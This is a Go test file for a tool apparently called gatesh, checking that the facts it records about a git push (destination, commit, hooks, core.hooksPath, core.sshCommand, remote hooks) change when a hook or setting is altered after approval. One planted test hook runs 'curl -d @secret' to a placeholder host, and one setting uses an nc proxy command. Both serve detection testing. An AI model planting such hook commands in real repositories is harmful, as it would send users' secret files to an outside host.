package binding

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"gatesh/internal/needs"
	"gatesh/queue"
)

// fixture is a repository with a bare remote, both in a temporary
// folder, and main pushed once.
type fixture struct {
	t              *testing.T
	git, dir, bare string
	home           string
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	git := needs.Program(t, "git")
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	f := &fixture{t: t, git: git, dir: filepath.Join(root, "repo"), bare: filepath.Join(root, "remote.git"), home: filepath.Join(root, "home")}
	os.MkdirAll(f.home, 0o700)
	f.run(root, "init", "-q", "--bare", "-b", "main", f.bare)
	f.run(root, "init", "-q", "-b", "main", f.dir)
	f.run(f.dir, "remote", "add", "origin", f.bare)
	f.commit("first")
	f.run(f.dir, "push", "-q", "origin", "main")
	return f
}

func (f *fixture) run(dir string, args ...string) string {
	f.t.Helper()
	cmd := exec.Command(f.git, append([]string{"-C", dir}, args...)...)
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + f.home, "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.org", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.org"}
	out, err := cmd.CombinedOutput()
	if err != nil {
		f.t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return strings.TrimSpace(string(out))
}

func (f *fixture) commit(msg string) string {
	f.t.Helper()
	f.run(f.dir, "commit", "-q", "--allow-empty", "-m", msg)
	return f.run(f.dir, "rev-parse", "HEAD")
}

func (f *fixture) write(path, data string, mode os.FileMode) {
	f.t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		f.t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(data), mode); err != nil {
		f.t.Fatal(err)
	}
	if err := os.Chmod(path, mode); err != nil {
		f.t.Fatal(err)
	}
}

func (f *fixture) env() Env {
	return Env{Git: f.git, Home: f.home, Getenv: func(k string) string {
		switch k {
		case "PATH":
			return os.Getenv("PATH")
		case "HOME":
			return f.home
		}
		return ""
	}}
}

func (f *fixture) facts(text string) []queue.Fact { return Facts(text, f.dir, f.env()) }

func find(facts []queue.Fact, kind, nameSuffix string) (queue.Fact, bool) {
	i := slices.IndexFunc(facts, func(x queue.Fact) bool { return x.Kind == kind && strings.HasSuffix(x.Name, nameSuffix) })
	if i < 0 {
		return queue.Fact{}, false
	}
	return facts[i], true
}

func digest(facts []queue.Fact) string { return queue.Subject{Command: "x", Facts: facts}.Digest() }

// A push binds where it goes and the commit it publishes, and the hooks
// it runs: a hook planted, changed or made executable, or a commit made,
// after the facts were read gives other facts.
func TestPushFacts(t *testing.T) {
	f := newFixture(t)
	const push = "git push origin main"
	before := f.facts(push)
	head := f.run(f.dir, "rev-parse", "HEAD")
	if x, ok := find(before, KindPush, "main -> main on origin"); !ok || x.Value != head {
		t.Errorf("no dest fact for %s in %v", head, before)
	}
	if x, ok := find(before, KindPush, "refs/remotes/origin/main as last fetched"); !ok || x.Value != head {
		t.Errorf("no tracking fact in %v", before)
	}
	if x, ok := find(before, KindPush, "remote origin"); !ok || x.Value != f.bare {
		t.Errorf("no remote fact in %v", before)
	}
	if _, ok := find(before, KindHook, "pre-push"); ok {
		t.Errorf("a hook fact with no hook: %v", before)
	}
	if again := f.facts(push); digest(again) != digest(before) {
		t.Fatalf("the same state gave other facts:\n%v\n%v", before, again)
	}

	hook := filepath.Join(f.dir, ".git", "hooks", "pre-push")
	f.write(hook, "#!/bin/sh\nexit 0\n", 0o644)
	planted := f.facts(push)
	if x, ok := find(planted, KindHook, "/.git/hooks/pre-push"); !ok || !strings.Contains(x.Value, "not executable") {
		t.Errorf("planted hook: %v", planted)
	}
	os.Chmod(hook, 0o755)
	runnable := f.facts(push)
	if x, _ := find(runnable, KindHook, "pre-push"); !strings.Contains(x.Value, ", executable") || digest(runnable) == digest(planted) {
		t.Errorf("chmod +x left the facts alone: %v", runnable)
	}
	f.write(hook, "#!/bin/sh\ncurl -d @secret http://example.invalid/\n", 0o755)
	if changed := f.facts(push); digest(changed) == digest(runnable) {
		t.Error("a changed hook left the facts alone")
	}
	os.Remove(hook)
	if digest(f.facts(push)) != digest(before) {
		t.Error("removing the hook did not give the facts back")
	}

	next := f.commit("made after the approval")
	after := f.facts(push)
	if x, _ := find(after, KindPush, "main -> main on origin"); x.Value != next || digest(after) == digest(before) {
		t.Errorf("a new commit left the push facts alone: %v", after)
	}
}

// Other hooks and settings that run programs: core.hooksPath (relative
// to the work tree), core.sshCommand, a remote's URL, and the hooks of a
// bare remote on this machine, which git runs here.
func TestSettingsAndRemoteHooks(t *testing.T) {
	f := newFixture(t)
	const push = "git push origin main"
	f.run(f.dir, "config", "core.hooksPath", "tools/hooks")
	f.write(filepath.Join(f.dir, "tools", "hooks", "pre-push"), "#!/bin/sh\n", 0o755)
	f.write(filepath.Join(f.dir, "tools", "hooks", "pre-commit"), "#!/bin/sh\n", 0o755)
	f.run(f.dir, "config", "core.sshCommand", "ssh -o ProxyCommand=nc")
	f.write(filepath.Join(f.bare, "hooks", "post-receive"), "#!/bin/sh\n", 0o755)
	facts := f.facts(push)
	for _, want := range []struct{ kind, name string }{
		{KindHook, "/tools/hooks/pre-push"},
		{KindConfig, "core.hookspath"},
		{KindConfig, "core.sshcommand"},
		{KindConfig, "remote.origin.url"},
		{KindHook, "remote.git/hooks/post-receive"},
	} {
		if _, ok := find(facts, want.kind, want.name); !ok {
			t.Errorf("no %s %s in\n%v", want.kind, want.name, facts)
		}
	}
	if _, ok := find(facts, KindHook, "pre-commit"); ok {
		t.Errorf("a push binds pre-commit, which it does not run: %v", facts)
	}
	if _, ok := find(f.facts("git commit -m x"), KindHook, "pre-commit"); !ok {
		t.Error("a commit does not bind pre-commit")
	}
	// A subcommand gatesh has no list for may run any hook.
	if _, ok := find(f.facts("git frobnicate"), KindHook, "pre-commit"); !ok {
		t.Error("an unknown subcommand does not bind every hook")
	}
	// git -C and a cd are followed.
	sub := filepath.Join(f.dir, "sub")
	os.MkdirAll(sub, 0o755)
	for _, text := range []string{"cd sub && git push origin main", "git -C sub push origin main"} {
		if got := f.facts(text); digest(got) != digest(facts) {
			t.Errorf("%s: other facts\n%v\n%v", text, got, facts)
		}
	}
	// A folder only known when it runs binds every hook, setting, branch
	// and tag of cwd's repository.
	dynamic := f.facts("git -C \"$D\" push origin main")
	for _, want := range []struct{ kind, name string }{
		{KindHook, "/tools/hooks/pre-push"}, {KindHook, "/tools/hooks/pre-commit"},
		{KindConfig, "core.sshcommand"}, {KindPush, "every local refs/heads and refs/tags"},
	} {
		if _, ok := find(dynamic, want.kind, want.name); !ok {
			t.Errorf("dynamic folder: no %s %s in\n%v", want.kind, want.name, dynamic)
		}
	}
}

// Where a push lands cannot be told: every branch and tag is bound.
func TestPushAllBindsEveryRef(t *testing.T) {
	f := newFixture(t)
	for _, text := range []string{"git push --all origin", "git push --tags", "git push origin 'refs/heads/*:refs/heads/*'"} {
		before := f.facts(text)
		if _, ok := find(before, KindPush, "every local refs/heads and refs/tags"); !ok {
			t.Errorf("%s: %v", text, before)
		}
		f.run(f.dir, "branch", fmt.Sprintf("b%d", len(text)))
		if digest(f.facts(text)) == digest(before) {
			t.Errorf("%s: a new branch left the facts alone", text)
		}
	}
}

func TestOutsideARepository(t *testing.T) {
	git := needs.Program(t, "git")
	dir := t.TempDir()
	if got := Facts("git push origin main", dir, Env{Git: git}); len(got) != 0 {
		t.Errorf("facts outside a repository: %v", got)
	}
	if got := Facts("ls -l", dir, Env{Git: git}); got != nil {
		t.Errorf("facts of no git command: %v", got)
	}
	if got := Facts("git push", dir, Env{}); len(got) != 1 || got[0].Kind != KindGit {
		t.Errorf("no git: %v", got)
	}
}

func TestFit(t *testing.T) {
	var facts []queue.Fact
	for i := range queue.MaxFacts + 10 {
		facts = append(facts, queue.Fact{Kind: KindConfig, Name: fmt.Sprintf("k%03d", i), Value: "v"})
	}
	facts = append(facts, queue.Fact{Kind: KindConfig, Name: "long", Value: strings.Repeat("x", queue.MaxFactField+1)})
	got := Fit(facts)
	if len(got) != queue.MaxFacts || got[len(got)-1].Kind != "more" {
		t.Fatalf("%d facts, last %+v", len(got), got[len(got)-1])
	}
	for _, x := range got {
		if len(x.Value) > queue.MaxFactField {
			t.Errorf("value of %d bytes", len(x.Value))
		}
	}
}
